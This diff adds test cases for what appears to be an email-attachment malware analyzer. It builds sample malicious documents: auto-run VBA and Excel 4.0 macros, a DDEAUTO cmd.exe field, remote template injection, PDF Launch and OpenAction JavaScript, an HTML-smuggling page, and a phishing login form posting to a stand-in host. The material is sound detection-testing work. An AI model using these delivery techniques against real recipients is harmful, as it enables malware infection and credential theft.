@@ -485,4 +485,334 @@ expect-not: SCRIPT_OBFUSCATED SCRIPT_DOWNLOADER SCRIPT_LOLBIN SCRIPT_ENCODED_COM
              [("docs.tar", "application/x-tar", tar_bytes([("docs/a.txt", b"hello"), ("docs/b.pdf", b"%PDF-1.4\n")])),
               ("sum.js", "application/javascript", b"var total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }\nWScript.Echo(total);\n")]))
 
+
+# --- Issue 7: documents --------------------------------------------------------------------------
+
+with tempfile.TemporaryDirectory() as d:
+    subprocess.run(["cargo", "run", "-q", "-p", "mailmoat-analyzers", "--example", "make_documents", "--", d], check=True)
+    DOCS = {p.name: p.read_bytes() for p in pathlib.Path(d).iterdir()}
+# The VBA writer is checked by oletools' olevba, when installed (pip install oletools).
+try:
+    with tempfile.NamedTemporaryFile(suffix=".bin") as f:
+        f.write(DOCS["vbaProject.bin"])
+        f.flush()
+        out = subprocess.run(["olevba", f.name], capture_output=True, text=True).stdout
+        assert "AutoOpen" in out and "Shell" in out, out
+except FileNotFoundError:
+    print("olevba not installed: the VBA project is not cross-checked")
+
+CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+      '<Default Extension="xml" ContentType="application/xml"/>'
+      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+      '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
+      '</Types>')
+ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
+             '</Relationships>')
+
+
+def document_xml(body):
+    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+            + body + '</w:body></w:document>')
+
+
+def docx(parts, body="<w:p><w:r><w:t>Please see the attached quotation.</w:t></w:r></w:p>"):
+    members = [("[Content_Types].xml", CT.encode()), ("_rels/.rels", ROOT_RELS.encode()),
+               ("word/document.xml", document_xml(body).encode())]
+    return zip_bytes(members + parts)
+
+
+DOCM = docx([("word/vbaProject.bin", DOCS["vbaProject.bin"])])
+DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+
+write("docm_autoopen_shell", """
+# The issue's .docm: AutoOpen calls Shell on a harmless string.
+expect: VBA_MACRO at attachment invoice.docm
+expect: VBA_AUTORUN at attachment invoice.docm > Module1
+expect: VBA_SUSPICIOUS_CALLS at attachment invoice.docm > Module1
+expect: VBA_AUTORUN_EXECUTES at attachment invoice.docm
+expect-not: VBA_STOMPED VBA_OBFUSCATED
+expect-risk: medium
+""", message("Invoice 4471", "Please enable editing to see the invoice.",
+             [("invoice.docm", "application/vnd.ms-word.document.macroEnabled.12", DOCM)]))
+
+write("zip_docm_module_path", """
+# The path a report shows: invoice.zip > invoice.docm > Module1.
+expect: VBA_AUTORUN at attachment invoice.zip > invoice.docm > Module1
+expect: VBA_AUTORUN_EXECUTES at attachment invoice.zip > invoice.docm
+""", message("Invoice 4471", "Invoice attached.",
+             [("invoice.zip", ZIP, zip_bytes([("invoice.docm", DOCM)]))]))
+
+write("vba_obfuscated", """
+# Document_Open with its strings built from Chr() codes and reversed.
+expect: VBA_OBFUSCATED at attachment notice.docm > Module1
+expect: VBA_AUTORUN at attachment notice.docm > Module1
+expect: VBA_AUTORUN_EXECUTES at attachment notice.docm
+expect-risk: medium
+""", message("Notice", "Notice attached.",
+             [("notice.docm", "application/vnd.ms-word.document.macroEnabled.12", docx([("word/vbaProject.bin", DOCS["obfuscated.bin"])]))]))
+
+write("doc97_macro", """
+# A Word 97 document with the project under Macros/.
+expect: VBA_AUTORUN at attachment order.doc > Module1
+expect: VBA_AUTORUN_EXECUTES at attachment order.doc
+""", message("Order", "Order attached.", [("order.doc", "application/msword", DOCS["macro.doc"])]))
+
+write("vba_stomped", """
+# The source says MsgBox; the p-code still names Shell and WScript.Shell.
+expect: VBA_STOMPED at attachment report.docm > Module1
+expect-not: VBA_SUSPICIOUS_CALLS
+""", message("Report", "Report attached.",
+             [("report.docm", "application/vnd.ms-word.document.macroEnabled.12", docx([("word/vbaProject.bin", DOCS["stomped.bin"])]))]))
+
+XLSM_CT = CT.replace("/word/document.xml", "/xl/workbook.xml")
+xlsm = zip_bytes([
+    ("[Content_Types].xml", XLSM_CT.encode()),
+    ("_rels/.rels", ROOT_RELS.replace("word/document.xml", "xl/workbook.xml").encode()),
+    ("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Macro1" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>'),
+    ("xl/macrosheets/sheet1.xml", b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'),
+])
+write("xlsm_xlm_macro_sheet", """
+# The issue's XLM sample: a very hidden Excel 4.0 macro sheet that runs on open and calls EXEC.
+expect: XLM_MACRO_SHEET at attachment budget.xlsm > xl/macrosheets/sheet1.xml
+expect: XLM_EXECUTES at attachment budget.xlsm > xl/macrosheets/sheet1.xml
+expect: XLM_EXECUTES at attachment budget.xlsm
+expect-risk: medium
+""", message("Budget", "Budget attached.", [("budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", xlsm)]))
+
+write("xls_hidden_macro_sheet", """
+# Excel 97: a very hidden Excel 4.0 macro sheet found in the BIFF records.
+expect: XLM_MACRO_SHEET at attachment budget.xls > Macro1
+""", message("Budget", "Budget attached.", [("budget.xls", "application/vnd.ms-excel", DOCS["xlm.xls"])]))
+
+write("office_encrypted", """
+expect: OFFICE_ENCRYPTED at attachment salary.docx
+""", message("Salary", "The password is 5521.", [("salary.docx", DOCX_MIME, DOCS["encrypted.docx"])]))
+
+TEMPLATE_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                 'Target="http://templates-cdn.invalid/normal.dotm" TargetMode="External"/>'
+                 '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+                 'Target="https://www.example.com/" TargetMode="External"/>'
+                 '</Relationships>')
+write("docx_remote_template", """
+# Remote template injection: the macros arrive when the document opens, after the gateway.
+expect: OOXML_REMOTE_TEMPLATE at attachment offer.docx > word/_rels/settings.xml.rels
+expect-not: OOXML_EXTERNAL_RELATIONSHIP
+expect-risk: medium
+""", message("Offer", "Offer attached.",
+             [("offer.docx", DOCX_MIME, docx([("word/_rels/settings.xml.rels", TEMPLATE_RELS.encode())]))]))
+
+write("docx_unc_template", """
+# A template on a file share: ordinary in companies, but it can leak the user's NTLM hash.
+expect: OOXML_EXTERNAL_RELATIONSHIP at attachment memo.docx > word/_rels/settings.xml.rels
+expect-not: OOXML_REMOTE_TEMPLATE
+""", message("Memo", "Memo attached.",
+             [("memo.docx", DOCX_MIME, docx([("word/_rels/settings.xml.rels", TEMPLATE_RELS.replace("http://templates-cdn.invalid/normal.dotm", "file://fileserver/templates/normal.dotm").encode())]))]))
+
+write("docx_dde", """
+expect: OFFICE_DDE at attachment notice.docx > word/document.xml
+expect-risk: medium
+""", message("Notice", "Notice attached.",
+             [("notice.docx", DOCX_MIME, docx([], body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'))]))
+
+write("docx_embedded_package_activex", """
+# An embedded OLE object holding a script (Package), and an ActiveX control.
+expect: OOXML_EMBEDDED_OBJECT at attachment form.docx > word/embeddings/oleObject1.bin
+expect: OFFICE_EMBEDDED_PACKAGE at attachment form.docx > word/embeddings/oleObject1.bin > update.js
+expect: SCRIPT_EXECUTES at attachment form.docx > word/embeddings/oleObject1.bin > update.js
+expect: OOXML_ACTIVEX at attachment form.docx > word/activeX/activeX1.xml
+""", message("Form", "Form attached.",
+             [("form.docx", DOCX_MIME, docx([("word/embeddings/oleObject1.bin", DOCS["package.bin"]),
+                                              ("word/activeX/activeX1.xml", b'<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>')]))]))
+
+def ole1(cls, native):
+    c = cls.encode() + b"\0"
+    return (struct_pack("<II", 0x0501, 2) + struct_pack("<I", len(c)) + c + struct_pack("<I", 0)
+            + struct_pack("<I", 0) + struct_pack("<I", len(native)) + native)
+
+
+def struct_pack(fmt, *v):
+    import struct
+    return struct.pack(fmt, *v)
+
+
+def rtf_object(cls, native, extra=""):
+    h = ole1(cls, native).hex()
+    # Hex broken by whitespace and an ignorable group, as exploit builders do.
+    h = h[:20] + "\r\n  {\\*\\datastore 00}" + h[20:]
+    return ("{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Quotation attached.\\par"
+            "{\\object\\objemb" + extra + "{\\*\\objclass " + cls + "}\\objw10\\objh10{\\*\\objdata " + h + "}}}").encode()
+
+
+write("rtf_equation_editor", """
+# The issue's RTF sample: an Equation.3 object header, updating itself on open.
+expect: RTF_OBJECT at attachment quote.rtf > object 1 (Equation.3)
+expect: OFFICE_EQUATION_EDITOR at attachment quote.rtf > object 1 (Equation.3)
+expect: RTF_OBJUPDATE at attachment quote.rtf > object 1 (Equation.3)
+expect-risk: medium
+""", message("Quotation", "Quotation attached.",
+             [("quote.rtf", "application/rtf", rtf_object("Equation.3", b"\x1c\x00\x00\x00\x02\x00\x9e\xc4" + b"\x90" * 32, "\\objupdate"))]))
+
+pkg = bytearray()
+pkg += (2).to_bytes(2, "little") + b"run.js\0C:\\run.js\0" + bytes([0, 0, 3, 0])
+tmp = b"C:\\run.js\0"
+pkg += len(tmp).to_bytes(4, "little") + tmp
+payload = JS_DROPPER.encode()
+pkg += len(payload).to_bytes(4, "little") + payload
+write("rtf_package_script", """
+# A Package object: a script dropped into the document, extracted and analysed.
+expect: OFFICE_EMBEDDED_PACKAGE at attachment notice.rtf > object 1 (Package)
+expect: SCRIPT_DOWNLOADER at attachment notice.rtf > object 1 (Package) > run.js
+""", message("Notice", "Notice attached.",
+             [("notice.rtf", "application/rtf", rtf_object("Package", bytes(pkg)))]))
+
+
+def pdf(objects, trailer_extra=""):
+    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = []
+    for i, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
+    xref = len(out)
+    out += f"xref\n0 {len(objects)+1}\n0000000000 65535 f \n".encode()
+    for o in offsets:
+        out += f"{o:010d} 00000 n \n".encode()
+    out += f"trailer\n<< /Size {len(objects)+1} /Root 1 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return out
+
+
+def flate_stream(dict_extra, data):
+    import zlib
+    z = zlib.compress(data)
+    return f"<< /Length {len(z)} /Filter /FlateDecode {dict_extra}>>\nstream\n".encode() + z + b"\nendstream"
+
+
+js = b"var u = 'http://invoice-cdn.invalid/view'; app.alert('Loading document...'); this.submitForm(u);"
+write("pdf_openaction_javascript", """
+# The issue's PDF sample: JavaScript run on open, kept in a compressed stream.
+expect: PDF_JAVASCRIPT at attachment statement.pdf > JavaScript
+expect: PDF_AUTO_ACTION at attachment statement.pdf
+expect: PDF_AUTO_JAVASCRIPT at attachment statement.pdf > JavaScript
+expect-risk: medium
+""", message("Statement", "Statement attached.", [("statement.pdf", "application/pdf", pdf([
+    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+    b"<< /Type /Action /S /JavaScript /JS 5 0 R >>",
+    flate_stream("", js),
+]))]))
+
+write("pdf_launch_embedded_obfuscated", """
+# /Launch spelled with #xx escapes, an embedded script file, a form that submits, a link.
+expect: PDF_LAUNCH at attachment form.pdf
+expect: PDF_OBFUSCATED_NAMES at attachment form.pdf
+expect: PDF_EMBEDDED_FILE at attachment form.pdf > payload.vbs
+expect: SCRIPT_EXECUTES at attachment form.pdf > payload.vbs
+expect: PDF_SUBMIT_FORM at attachment form.pdf
+expect: DOCUMENT_URLS at attachment form.pdf
+""", message("Form", "Form attached.", [("form.pdf", "application/pdf", pdf([
+    b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.vbs) 5 0 R] >> >> /OpenAction 4 0 R >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (http://invoice-cdn.invalid/login) >> >>] >>",
+    b"<< /Type /Action /S /L#61unch /Win << /F (cmd.exe) /P (/c payload.vbs) >> /Next << /S /SubmitForm /F (http://invoice-cdn.invalid/collect) >> >>",
+    b"<< /Type /Filespec /F (payload.vbs) /UF (payload.vbs) /EF << /F 6 0 R >> >>",
+    flate_stream("/Type /EmbeddedFile", b'CreateObject("WScript.Shell").Run "calc", 0'),
+]))]))
+
+write("pdf_plain", """
+# An ordinary PDF: a page, a font, a link.
+expect-not: PDF_JAVASCRIPT PDF_AUTO_JAVASCRIPT PDF_LAUNCH PDF_EMBEDDED_FILE PDF_OBFUSCATED_NAMES PDF_SUBMIT_FORM
+""", message("Minutes", "Minutes attached.", [("minutes.pdf", "application/pdf", pdf([
+    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.example.com/) >> >>] >>",
+    flate_stream("", b"BT /F1 12 Tf 72 720 Td (Minutes of the meeting) Tj ET"),
+]))]))
+
+write("hwp_script", """
+# The issue's HWP sample: a document script that starts PowerShell to fetch a file.
+expect: HWP_SCRIPT at attachment 견적서.hwp > Scripts/DefaultJScript
+expect: SCRIPT_EXECUTES at attachment 견적서.hwp > Scripts/DefaultJScript
+expect: SCRIPT_DOWNLOADER at attachment 견적서.hwp > Scripts/DefaultJScript
+expect: DOCUMENT_URLS at attachment 견적서.hwp
+expect-risk: medium
+""", message("견적서 송부", "견적서를 보내드립니다.", [("견적서.hwp", "application/x-hwp", DOCS["script.hwp"])]))
+
+write("hwp_eps", """
+expect: HWP_EPS at attachment 공문.hwp > BinData/BIN0001.eps
+expect-not: HWP_SCRIPT
+expect-risk: medium
+""", message("공문", "공문을 보내드립니다.", [("공문.hwp", "application/x-hwp", DOCS["eps.hwp"])]))
+
+write("hwp_ole_object", """
+# An OLE object in BinData holding a script (Package): extracted and analysed.
+expect: HWP_OLE_OBJECT at attachment 안내문.hwp > BinData/BIN0002.OLE
+expect: OFFICE_EMBEDDED_PACKAGE at attachment 안내문.hwp > BinData/BIN0002.OLE > update.js
+""", message("안내문", "안내문을 보내드립니다.", [("안내문.hwp", "application/x-hwp", DOCS["ole.hwp"])]))
+
+write("pdf_encrypted", """
+expect: PDF_ENCRYPTED at attachment secure.pdf
+""", message("Secure", "Secure document attached.", [("secure.pdf", "application/pdf", pdf([
+    b"<< /Type /Catalog /Pages 2 0 R >>",
+    b"<< /Type /Pages /Kids [] /Count 0 >>",
+    b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1060 /O <00> /U <00> >>",
+], trailer_extra="/Encrypt 3 0 R "))]))
+
+write("hwp_plain", """
+# Every HWP file carries an empty script template: it is not a script.
+expect-not: HWP_SCRIPT HWP_EPS SCRIPT_EXECUTES
+""", message("회의록", "회의록입니다.", [("회의록.hwp", "application/x-hwp", DOCS["plain.hwp"])]))
+
+smuggled = zip_bytes([("Invoice_4471.exe", INJECTOR)])
+smuggle_page = ("<!DOCTYPE html><html><head><title>Invoice</title></head><body><p>Downloading your document...</p><script>\n"
+                "var d = '" + base64.b64encode(smuggled).decode() + "';\n"
+                "var b = atob(d); var a = new Uint8Array(b.length); for (var i = 0; i < b.length; i++) { a[i] = b.charCodeAt(i); }\n"
+                "var blob = new Blob([a], {type: 'application/octet-stream'});\n"
+                "if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, 'Invoice_4471.zip'); }\n"
+                "else { var l = document.createElement('a'); l.href = URL.createObjectURL(blob); l.download = 'Invoice_4471.zip'; l.click(); }\n"
+                "</script></body></html>")
+write("html_smuggling", """
+# The issue's HTML smuggling page: a zip built in the browser; decoded and walked here.
+expect: HTML_SMUGGLING at attachment Invoice_4471.html
+expect: ARCHIVE_EXECUTABLE at attachment Invoice_4471.html > Invoice_4471.zip > Invoice_4471.exe
+expect: PE_INJECTION_IMPORTS at attachment Invoice_4471.html > Invoice_4471.zip > Invoice_4471.exe
+expect-risk: high
+""", message("Invoice 4471", "Open the attached invoice.", [("Invoice_4471.html", "text/html", smuggle_page.encode())]))
+
+phish = ('<html><head><title>Sign in to your Microsoft 365 account</title></head><body>'
+         '<form method="post" action="https://collect.invalid/owa/login.php">'
+         '<input type="email" name="login" value="bob@corp.example"><input type="password" name="passwd">'
+         '<button>Sign in</button></form></body></html>')
+write("html_credential_form", """
+expect: HTML_CREDENTIAL_FORM at attachment Voicemail_0815.htm
+expect: HTML_BRAND_LOGIN at attachment Voicemail_0815.htm
+expect-risk: medium
+""", message("Voicemail received", "You have a new voicemail.", [("Voicemail_0815.htm", "text/html", phish.encode())]))
+
+write("html_redirect", """
+expect: HTML_REDIRECT at attachment Payment_Advice.html
+""", message("Payment advice", "Payment advice attached.", [("Payment_Advice.html", "text/html",
+    b'<html><head><meta http-equiv="refresh" content="0; url=https://payments-portal.invalid/advice"></head><body>Loading...</body></html>')]))
+
+receipt = ('<!DOCTYPE html><html><head><title>Your receipt</title></head><body><h1>Thank you for your order</h1>'
+           '<img src="data:image/png;base64,' + base64.b64encode(samples.high_entropy(3000, 9)).decode() + '">'
+           '<p>Total: 42.00 EUR</p><a href="https://shop.example/orders/1">View order</a></body></html>')
+write("html_receipt_clean", """
+# A saved receipt: an inline image, a link, no form, no script.
+expect-not: HTML_CREDENTIAL_FORM HTML_SMUGGLING HTML_REDIRECT SCRIPT_OBFUSCATED
+""", message("Receipt", "Your receipt.", [("receipt.html", "text/html", receipt.encode())]))
+
+write("docx_clean", """
+# An ordinary .docx with a hyperlink: nothing to say.
+expect-not: VBA_MACRO OOXML_EXTERNAL_RELATIONSHIP OFFICE_DDE OOXML_EMBEDDED_OBJECT
+""", message("Quotation", "Quotation attached.",
+             [("quote.docx", DOCX_MIME, docx([("word/_rels/document.xml.rels", TEMPLATE_RELS.split('<Relationship Id="rId1"')[0].encode()
+                                                + b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/></Relationships>')]))]))
+
 print("cases written to", HERE)
